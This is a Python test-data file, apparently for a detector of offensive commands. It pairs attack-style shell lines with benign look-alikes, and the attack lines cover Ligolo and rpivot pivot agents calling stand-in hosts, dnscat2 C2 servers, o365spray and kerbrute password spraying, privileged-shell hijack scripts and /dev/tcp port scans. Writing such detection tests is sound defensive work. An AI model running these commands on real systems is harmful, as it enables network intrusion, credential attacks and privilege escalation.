"""Pivoting agents known by their options, wrapped scanners, spraying scripts (session 20, lead).

Found on held-out HTB cheat sheets (momenbasel/htb-writeups, ajcriado/htb-writeups): Ligolo-ng released as
plain ``agent`` and ``proxy`` binaries, rpivot's ``server.py``/``client.py``, ``ip tuntap add`` for the
pivot's interface, ``proxychains nmap -v`` (the wrapped scanner's ``-v`` read as the wrapper's version
request), and password sprayers run as Python scripts (``python3 o365spray.py``); on hideckies/exploit-notes
(held out too): a one-line script that starts a shell in privileged mode (``echo '/bin/bash -p' > /tmp/x``,
for a PATH or cron hijack) and a port scan through bash's ``/dev/tcp`` in a loop. The variants below are
written for this test, not the measured lines.
"""

HELD = {
    "ligolo by its options": [
        "./agent -connect 203.0.113.7:443 -ignore-cert -retry",
        "/tmp/agent -ignore-cert -connect relay.example.net:11601",
        "./proxy -laddr 0.0.0.0:443 -selfcert",
        "sudo ./proxy -autocert",
        "./lg-agent -connect 198.51.100.4:11601 -accept-fingerprint ABCD",
    ],
    "dns tunnel server": [
        "dnscat2-server c2.example.org",
        "sudo dnscat2-server --dns domain=c2.example.org --secret=x",
    ],
    "pivot interface": [
        "sudo ip tuntap add user kali mode tun pivot0",
        "ip tuntap add dev tun1 mode tun",
        "sudo ip tuntap del mode tun ligolo",
    ],
    "rpivot": [
        "python server.py --proxy-port 1080 --server-port 9443 --server-ip 0.0.0.0",
        "python2 client.py --server-ip 203.0.113.9 --server-port 9443",
        "python2.7 /dev/shm/client.py --server-ip 10.8.0.2 --server-port 443 --ntlm-proxy-ip 10.0.0.1 "
        "--ntlm-proxy-port 8080 --domain CORP --username bob --password x",
    ],
    "wrapped verbose scan": [
        "proxychains nmap -v -sT -Pn -p 445 10.1.2.3",
        "proxychains4 -q nmap -vv -sT 172.16.9.0/24",
        "torsocks nmap -v -p 80 scanme.example",
    ],
    "spraying scripts": [
        "python3 o365spray.py --spray -U users.txt -P pw.txt --domain corp.example",
        "python3 ./tools/o365spray.py --enum -U names.txt --domain corp.example",
        "python3 /opt/kerbrute.py -users u.txt -passwords p.txt -domain corp.local",
    ],
    "privileged-mode shell script": [
        "echo '/bin/sh -p' > /dev/shm/tar",
        "printf '/usr/bin/bash -p' > /var/tmp/backup",
        "echo 'exec /bin/dash -p' | tee /tmp/helper",
    ],
    "port scan through /dev/tcp": [
        "for port in {1..1024}; do (echo >/dev/tcp/192.0.2.10/$port) 2>/dev/null && echo open $port; done",
        "for p in 21 22 23 25 80 443; do (exec 3<>/dev/tcp/10.9.8.7/$p) 2>/dev/null && echo $p; done",
        "for p in {20..25}; do : 2>/dev/null >/dev/udp/203.0.113.5/$p; done",
    ],
}

ALLOWED = [
    "echo 'bash -i' > notes.txt",
    "echo /bin/bash > shells.txt",
    ": > /dev/tcp/db/5432",
    'for p in 80 443; do timeout 1 bash -c "echo > /dev/tcp/example.com/$p"; done',
    "for p in {8000..8010}; do echo > /dev/tcp/localhost/$p; done",
    "python client.py --server-ip 127.0.0.1 --server-port 8000",
    "python server.py --port 8000",
    "python3 server.py --host 0.0.0.0 --port 5000",
    "openssl s_client -connect example.com:443 -servername example.com",
    "ip tuntap show",
    "ip -d tuntap list",
    "ngrok -v",
    "proxychains -v",
    "chisel --version",
    "dnscat2-server --help",
    "python3 o365spray.py --help",
    "python3 agent.py --connect localhost:8000",
    "./agent --config agent.yaml",
]
